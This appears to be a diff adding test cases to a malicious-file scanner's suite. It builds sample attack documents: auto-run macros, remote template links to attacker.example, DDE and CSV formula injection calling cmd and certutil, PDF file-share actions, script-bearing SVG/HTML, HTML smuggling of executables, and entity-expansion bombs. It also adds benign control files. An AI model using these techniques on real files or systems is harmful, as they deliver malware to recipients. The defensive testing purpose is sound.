@@ -3,7 +3,10 @@
 from __future__ import annotations
 
 import base64
+import gzip
+import io
 import struct
+import zlib
 
 import pikepdf
 import pytest
@@ -250,6 +253,213 @@ OTHERS = [
     ("picture.png", files.png() + b"Rar!\x1a\x07\1\0" + b"x" * 60, {"polyglot"}),
 ]
 
+RUNS_BY_ITSELF = {"macro", "autoopen", "suspicious-macro"}
+PROJECT = compound(files.vba_project(files.AUTO_MACRO).entries)
+MACRO_RELATION = (
+    f'<Relationships><Relationship Id="r1" Type="{files.RELATIONS}/xlMacrosheet" Target="a"/></Relationships>'
+)
+MACRO_SHEET = '<a:macrosheet xmlns:a="http://schemas.microsoft.com/office/excel/2006/main"/>'
+TEMPLATE = files.relation("attachedTemplate", "https://attacker.example/t.dotm")
+DOCUMENT = "<w:document xmlns:w='w'><w:instrText> DDEAUTO cmd </w:instrText></w:document>"
+FLAT = f"<pkg:package xmlns:pkg='http://schemas.microsoft.com/office/2006/xmlPackage'>{TEMPLATE}</pkg:package>"
+SAVED = base64.b64encode(
+    b"ActiveMime" + b"\0" * 40 + zlib.compress(files.doc({"Macros": files.vba_project(files.AUTO_MACRO)}))
+)
+WORD_2003 = (
+    b"<?xml version='1.0'?><?mso-application progid='Word.Document'?><w:wordDocument w:macrosPresent='yes' "
+    b"xmlns:w='http://schemas.microsoft.com/office/word/2003/wordml'><w:docSuppData><w:binData w:name='editdata.mso'>"
+    + SAVED
+    + b"</w:binData></w:docSuppData></w:wordDocument>"
+)
+SAVED_PAGE = (
+    b'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="zz"\r\n\r\n--zz\r\nContent-Type: application/x-mso\r\n'
+    b"Content-Transfer-Encoding: base64\r\n\r\n" + SAVED + b"\r\n--zz--\r\n"
+)
+SVG = "http://www.w3.org/2000/svg"
+XHTML = "http://www.w3.org/1999/xhtml"
+SCRIPT_LINK = base64.b64encode(b"new ActiveXObject('WScript.Shell').Run('calc.exe');\r\n").decode()
+LINES = base64.encodebytes(files.archive({"a.exe": files.PROGRAM})).decode()
+
+
+def presentation(packed: bytes) -> bytes:
+    """Give a PowerPoint document before 2007 with a storage in its stream (MS-PPT 2.10.34)."""
+    return compound({"PowerPoint Document": struct.pack("<HHII", 0x10, 0x1011, len(packed) + 4, 0) + packed})
+
+
+def of_page(entry: str, action: pikepdf.Dictionary) -> bytes:
+    """Give a PDF whose page has an entry that acts."""
+    with pikepdf.open(io.BytesIO(files.pdf())) as document:
+        document.pages[0].obj[entry] = pikepdf.Dictionary(O=action)
+        saved = io.BytesIO()
+        document.save(saved)
+    return saved.getvalue()
+
+
+OFFICE += [
+    *[
+        (f"{part} as project.docm", files.docx(parts={part: PROJECT}), RUNS_BY_ITSELF)
+        for part in (
+            "word/data.dat",
+            "word/settings.bin",
+            "word/printerSettings1.bin",
+            "word/media/image1.png",
+            "word/x.xml",
+        )
+    ],
+    ("sheet among sheets.xlsx", files.docx(parts={"xl/worksheets/sheet2.xml": MACRO_SHEET}), {"macro"}),
+    ("related sheet.xlsb", files.docx(parts={"xl/_rels/workbook.bin.rels": MACRO_RELATION}), {"macro"}),
+    ("single quotes.xlsm", files.docx(parts={"xl/workbook.xml": AUTO_OPEN.replace('"', "'")}), {"autoopen"}),
+    (
+        "program.ppsx",
+        files.docx(parts={"ppt/slides/slide1.xml": "<a:hlinkHover action='ppaction://program'/>"}),
+        {"launch"},
+    ),
+    ("packed.ppt", presentation(zlib.compress(PROJECT)), RUNS_BY_ITSELF),
+    (
+        "both a message.doc",
+        files.doc({"Macros": files.vba_project(files.AUTO_MACRO), "__properties_version1.0": b"\0" * 32}),
+        RUNS_BY_ITSELF,
+    ),
+    *[
+        (f"template {number}.docx", files.docx(parts={RELS: part}), {"template"})
+        for number, part in enumerate(
+            (
+                TEMPLATE.encode("utf-16"),
+                TEMPLATE.encode("utf-16-le"),
+                TEMPLATE.replace("<Relationships>", '<r:Relationships xmlns:r="r">').replace(
+                    "<Relationship ", "<r:Relationship "
+                ),
+                TEMPLATE.replace('"External"', '"&#69;xternal"'),
+                TEMPLATE.replace("t.dotm", "t.dotm?a>b"),
+                TEMPLATE.replace("https:", " https:"),
+                TEMPLATE.replace("t.dotm", "t.dotm?" + "a" * 2_100),
+                files.relation("attachedTemplate", "file://attacker.example/t.dotm"),
+            )
+        )
+    ],
+    (
+        "padded.docx",
+        files.archive(
+            {f"customXml/item{number}.xml": "<a/>" for number in range(210)}
+            | {"[Content_Types].xml": "<Types/>", RELS: TEMPLATE}
+        ),
+        {"template"},
+    ),
+    ("lower case.docx", files.archive({"[content_types].xml": "<Types/>", RELS: TEMPLATE}), {"template"}),
+    ("flat.doc", FLAT.encode(), {"template"}),
+    ("flat.xml", b"<?xml version='1.0'?><!--" + b" " * 5_000 + b"-->" + FLAT.encode(), {"template"}),
+    ("grouped.rtf", files.rtf(r"{\*\template {http://attacker.example/t.dotm}}"), {"template"}),
+    *[
+        (f"dde in {part}.docx", files.docx(parts={part: content}), {"dde"})
+        for part, content in (
+            ("word/document2.xml", DOCUMENT),
+            ("word/endnotes.xml", DOCUMENT),
+            ("word/footnotes.xml", DOCUMENT.encode("utf-16")),
+            ("word/comments.xml", DOCUMENT.replace("w:", "x:")),
+            ("word/header2.xml", "<w:fldSimple w:instr='DDEAUTO cmd \"/k calc\"'/>"),
+            ("word/header3.xml", "<w:instrText> QUOTE 68 68 69 65 85 84 79 32 99</w:instrText>"),
+            ("word/header4.xml", "<w:instrText> DDEAUTO cmd </w:instrText>" + "<w:p>"),
+            ("xl/externalLinks/a.xml", DDE_LINK.replace('"', "'")),
+            ("xl/externalLinks/b.xml", f'<ddeLink ddeTopic="{"a" * 400}" ddeService="cmd"/>'),
+        )
+    ],
+    *[
+        (f"dde {number}.rtf", files.rtf(r"{\field{\*\fldinst " + code + "}}"), {"dde"})
+        for number, code in enumerate(
+            (
+                r"{\b DD}{\b0 EAUTO c:\\cmd}",
+                r"{\rtlch }{DDEAUTO c:\\cmd}",
+                r"{D\'44EAUTO c:\\cmd}",
+                r"{\uc1 D\u68?EAUTO c:\\cmd}",
+                r"{DD{\*\bkmkstart a}EAUTO c:\\cmd}",
+            )
+        )
+    ],
+    *[
+        (name, f"name,sum\r\n{formula}\r\n".encode(), {"dde"})
+        for name, formula in (
+            ("a.csv", "=wscript|'x'!A0"),
+            ("b.csv", "=certutil|'-urlcache'!A0"),
+            ("c.csv", "=SUM(1,2)*cmd|'/c calc'!A0"),
+            ("d.csv", "=" + "1+" * 800 + "cmd|'/c calc'!A0"),
+            ("a.xls", "=cmd|'/c calc'!A0"),
+            ("a.prn", "=cmd|'/c calc'!A0"),
+            ("a.dif", "=cmd|'/c calc'!A0"),
+        )
+    ],
+    (
+        "mimetype last.odt",
+        files.archive(
+            {
+                "content.xml": "<x/>",
+                "META-INF/manifest.xml": "<x/>",
+                "Basic/Standard/Module1.xml": "<x/>",
+                "mimetype": "x",
+            }
+        ),
+        {"macro"},
+    ),
+    ("single quotes.doc", WORD_2003, RUNS_BY_ITSELF),
+]
+
+PORTABLE += [
+    ("file url.pdf", of_page("/AA", files.action("URI", URI="file://192.0.2.1/share/x.exe")), {"launch"}),
+    ("unc url.pdf", of_page("/AA", files.action("URI", URI="\\\\192.0.2.1\\share\\x.exe")), {"launch"}),
+    ("slashes.pdf", of_page("/AA", files.action("GoToR", F="//192.0.2.1/share/x.pdf")), {"launch"}),
+    ("page.pdf", of_page("/AA", files.action("JavaScript", JS="app.alert(1)")), {"openaction", "javascript"}),
+]
+
+PAGES += [
+    *[
+        (name, source.encode(), {"activehtml", "active-drawing"})
+        for name, source in (
+            ("prefix.svg", f"<s:svg xmlns:s='{SVG}'><s:script>top.open(1)</s:script></s:svg>"),
+            ("slash.svg", f"<svg/onload=top.open(1) xmlns='{SVG}'>"),
+            ("pointer.svg", f"<svg xmlns='{SVG}'><rect onpointerenter='top.open(1)'/></svg>"),
+            ("scheme.svg", f"<svg xmlns='{SVG}'><a href='java&#115;cript:alert(1)'/></svg>"),
+            ("entity.svg", f"<!DOCTYPE svg [<!ENTITY a '&#60;script>x&#60;/script>'>]><svg xmlns='{SVG}'>&a;</svg>"),
+        )
+    ],
+    ("slash.html", b"<html><body/onload=go()></body></html>", {"activehtml"}),
+    ("scheme.html", b"<html><a href='&#106;avascript:alert(1)'>x</a></html>", {"activehtml"}),
+    (
+        "prefix.xml",
+        f"<?xml version='1.0'?><x:r xmlns:x='{XHTML}'><x:script>go()</x:script></x:r>".encode(),
+        {"activehtml"},
+    ),
+    ("wide.xml", f"<?xml version='1.0'?><r xmlns='{XHTML}'><script>go()</script></r>".encode("utf-16"), {"activehtml"}),
+    (
+        "unmarked.xml",
+        f"<?xml version='1.0'?><r xmlns='{XHTML}'><script>x</script></r>".encode("utf-16-le"),
+        {"activehtml"},
+    ),
+    (
+        "text.html",
+        f"<html><a download='invoice.js' href='data:application/octet-stream;base64,{SCRIPT_LINK}'>x</a>".encode(),
+        {"smuggled"},
+    ),
+    ("lines.html", f"<html><a href='data:application/zip;base64,\n{LINES}'>x</a>".encode(), {"smuggled"}),
+    ("lines in script.html", f"<html><script>d=`{LINES}`</script>".encode(), {"smuggled", "activehtml"}),
+    ("lines in area.html", f"<html><textarea>{LINES}</textarea>".encode(), {"smuggled"}),
+    (
+        "named elsewhere.html",
+        b"<html><script>n='Invoice 7.iso';a.href=URL.createObjectURL(new Blob([x()]));a.download=n</script>",
+        {"smuggled", "activehtml"},
+    ),
+    (
+        "typed.html",
+        b"<html><script>a.href=URL.createObjectURL(new Blob([x()],{type:'application/octet-stream'}))</script>",
+        {"smuggled", "activehtml"},
+    ),
+    (
+        "unknown.html",
+        b"<html><script>d='"
+        + base64.b64encode(bytes(range(240, 0, -1)) * 5)
+        + b"';u=URL.createObjectURL(new Blob([f(d)]))</script>",
+        {"smuggled", "activehtml"},
+    ),
+]
+
 
 @pytest.mark.parametrize(("name", "data", "expected"), [*OFFICE, *PORTABLE, *PAGES, *OTHERS])
 def test_each_attack_has_its_code(name: str, data: bytes, expected: set[str]) -> None:
@@ -286,6 +496,12 @@ HONEST = [
     ("server.log", b"GET /atob HTTP/1.1 \x1b[0m\n" * 50),
     ("fix.patch", b"--- a/x.js\n+++ b/x.js\n+ document.write(atob(x))\n"),
     ("minutes.msg", files.outlook_message("minutes.txt", b"text")),
+    ("own template.docx", files.docx(parts={RELS: files.relation("attachedTemplate", "file:///C:\\Users\\a\\letter.dotx")})),
+    ("own template.rtf", files.rtf(r"{\*\template C:\\\\Users\\\\a\\\\letter.dot}{\field{\*\fldinst { PAGE }}}")),
+    ("says dde.docx", files.docx(parts={"word/header1.xml": "<w:p><w:instrText> PAGE </w:instrText><w:t>DDE is old</w:t>"})),
+    ("pipes.csv", b"name|sum!\r\n-5|yes! no\r\n-x | 'quoted' | y\r\n"),
+    ("local.pdf", files.pdf({"/AA": pikepdf.Dictionary(WC=files.action("URI", URI="file:///C:/a.txt"))})),
+    ("packed shapes.ppt", presentation(zlib.compress(compound({"Contents": b"x"})))),
 ]  # fmt: skip
 
 
@@ -293,6 +509,54 @@ HONEST = [
 def test_honest_files_have_no_finding(name: str, data: bytes) -> None:
     """What honest people send of the same kinds is nothing remarkable."""
     assert words(look(name, data)) == set()
+
+
+REPORTS = [
+    (
+        "table.html",
+        (
+            b"<html><script>function save(t){var b=new Blob([t],{type:'text/csv'});a.href=URL.createObjectURL(b);a.download='table.csv'}</script>"
+            b"<button onclick='save(1)'>Export CSV</button></html>"
+        ),
+    ),
+    (
+        "tests.html",
+        b"<html><script>window.report='data:application/zip;base64,"
+        + base64.b64encode(files.archive({"report.json": "{}", "data/shot.png": files.png()}))
+        + b"'</script></html>",
+    ),
+    (
+        "graph.html",
+        b"<html><script>model='"
+        + base64.b64encode(gzip.compress(repr(list(range(90))).encode()))
+        + b"'</script></html>",
+    ),
+]
+
+
+@pytest.mark.parametrize(("name", "data"), REPORTS)
+def test_a_report_that_saves_its_data_smuggles_nothing(name: str, data: bytes) -> None:
+    """Pages that give out tables, or carry their data packed, are pages with script and nothing more."""
+    assert words(look(name, data)) == {"activehtml"}
+
+
+def deep(name: str, data: bytes) -> set[str]:
+    """Give the last words of the codes that were found in a file and in the files inside of it."""
+    inspection = look(name, data)
+    return words(inspection).union(*(deep(member.name, member.content) for member in inspection.members))
+
+
+@pytest.mark.parametrize(
+    ("name", "data"),
+    [
+        ("saved.doc", SAVED_PAGE),
+        ("in front.doc", files.pdf() + b"\r\n" + SAVED_PAGE),
+        ("saved.xml", WORD_2003),
+    ],
+)
+def test_macros_in_documents_saved_as_text_are_read(name: str, data: bytes) -> None:
+    """What a macro does is told, also where Office saved it packed within a web page or XML, behind a PDF or not."""
+    assert deep(name, data) >= RUNS_BY_ITSELF
 
 
 LEADS = [
@@ -353,6 +617,10 @@ CARRIES = [
     ("a.msg", files.outlook_message("a.exe", files.PROGRAM), Kind.PE),
     ("a.png", files.png() + files.archive({"a": "b"}), Kind.ZIP),
     ("given.docx", files.encrypted_docx("infected"), Kind.OOXML),
+    ("called a part.docx", files.docx(parts={"word/theme/theme1.xml": files.PROGRAM}), Kind.PE),
+    ("a.ics", b"BEGIN:VCALENDAR\r\nATTACH;ENCODING=BASE64;VALUE=BINARY;X-FILENAME=a.exe:" + base64.b64encode(files.PROGRAM) + b"\r\nEND:VCALENDAR\r\n", Kind.PE),
+    ("folded.ics", b"BEGIN:VCALENDAR\r\nATTACH;VALUE=BINARY;ENCODING=BASE64:" + base64.encodebytes(files.PROGRAM).replace(b"\n", b"\r\n ") + b"\r\nEND:VCALENDAR\r\n", Kind.PE),
+    ("a.ppt", presentation(zlib.compress(files.doc({"x": b"y"}))), Kind.OLE),
     ("a.eml", b"Subject: x\r\nFrom: y@z.example\r\nContent-Type: application/x; name=a.exe\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(files.PROGRAM).replace(b"\n", b"\r\n"), Kind.PE),
 ]  # fmt: skip
 
@@ -423,7 +691,16 @@ SLOW = [
     ("link.txt", b"http://" * 500_000),
     ("names.pdf", b"%PDF-1.4\n" + b"/J#61" * 400_000),
     ("objects.pdf", b"%PDF-1.4\n" + b"stream\n" * 300_000),
-]
+    ("calls.csv", b"xa|b!c," * 400_000),
+    ("lines.html", b"<html>" + b'"AAAAAAAAAAAAAAAAAAAAAAAAA\n' * 100_000),
+    ("names.html", b"<html>" + b"new File(" * 300_000),
+    ("elements.docx", files.docx(parts={"word/document2.xml": b"<w:instrText>" + b"<a>" * 1_500_000})),
+    ("relations.docx", files.docx(parts={RELS: b"<r>" + b"<Relationship/>" * 300_000})),
+    ("groups.rtf", b"{\\rtf1{\\fldinst " + b"{}" * 300_000),
+    ("entities.svg", b"<!DOCTYPE svg [<!ENTITY a0 'aaaa<b/>'>" + b"".join(b"<!ENTITY a%d '%s'>" % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 9)) + b"]><svg>&a8;</svg>"),
+    ("storages.ppt", presentation(zlib.compress(b"\0" * 1_000_000) + (struct.pack("<HHII", 0x10, 0x1011, 9, 1) + zlib.compress(b"\0" * 1_000_000)) * 300)),
+    ("files.ics", b"BEGIN:VCALENDAR\r\n" + b"A;ENCODING=B:AA\r\n" * 100_000),
+]  # fmt: skip
 
 
 @pytest.mark.parametrize(("name", "data"), SLOW)
